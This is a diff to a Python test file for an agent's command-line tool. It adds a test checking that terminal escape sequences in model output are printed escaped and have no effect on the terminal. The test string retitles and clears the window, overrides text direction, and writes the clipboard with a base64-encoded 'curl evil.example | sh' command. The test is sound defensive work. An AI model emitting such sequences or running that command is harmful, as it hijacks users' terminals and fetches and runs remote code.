@@ -13,11 +13,11 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from fakes.hf_server import Fault, png_bytes
-from fakes.hf_server import start_in_thread as start_hf
-from fakes.llm_server import start_in_thread as start_llm
 
 from agent.catalog import Catalog
+from tests.fakes.hf_server import Fault, png_bytes
+from tests.fakes.hf_server import start_in_thread as start_hf
+from tests.fakes.llm_server import start_in_thread as start_llm
 
 CAPTION = "a red square on a grey background"
 TASKS = ("image-to-text", "object-detection", "text-to-speech")
@@ -54,7 +54,7 @@ def _calls(hf: Any, model: str) -> list[Any]:
 
 def _ask(args: list[str], env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
     return subprocess.run(
-        [sys.executable, "-m", "agent.cli", "ask", *args], env=env, cwd=cwd, capture_output=True, text=True,
+        [sys.executable, "-m", "app.cli", "ask", *args], env=env, cwd=cwd, capture_output=True, text=True,
         timeout=180,
     )
 
@@ -196,3 +196,28 @@ def test_dry_run_plans_without_running(tmp_path: Path, hf: Any) -> None:
     assert [t["model"] for t in trace["tasks"]] == [_models(task)[0] for task in TASKS]
     assert trace["files"] == [] and hf.server.requests == []
     assert "image-to-text" in trace["answer"]
+
+
+HOSTILE = (
+    "Done.\x1b]0;pwned-title\x07\x1b[2J\x1b[H"  # retitle the window, clear the screen
+    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: write the clipboard
+    "\roverwritten\x9b31m red\u202eevil"  # carriage return, 8-bit CSI, a right-to-left override
+)
+
+
+def test_escape_sequences_in_model_text_are_shown_not_obeyed_by_the_terminal(tmp_path: Path) -> None:
+    """Model output once reached the terminal raw: it could retitle it, clear it, write the clipboard."""
+
+    def script(body: dict[str, Any]) -> str:
+        return '{"tasks": []}' if _stage(body) == "plan" else HOSTILE
+
+    llm = start_llm(script)
+    try:
+        proc = _ask(["hello"], _env(tmp_path, llm.base_url, "http://127.0.0.1:9"), tmp_path)
+    finally:
+        llm.stop()
+    assert proc.returncode == 0, proc.stderr
+    printed = proc.stdout + proc.stderr
+    assert not any(c in printed for c in "\x1b\x07\r\x9b\u202e")
+    assert "Done.^[]0;pwned-title^G^[[2J" in proc.stdout
+    assert "^Moverwritten<U+009B>31m red<U+202E>evil" in proc.stdout
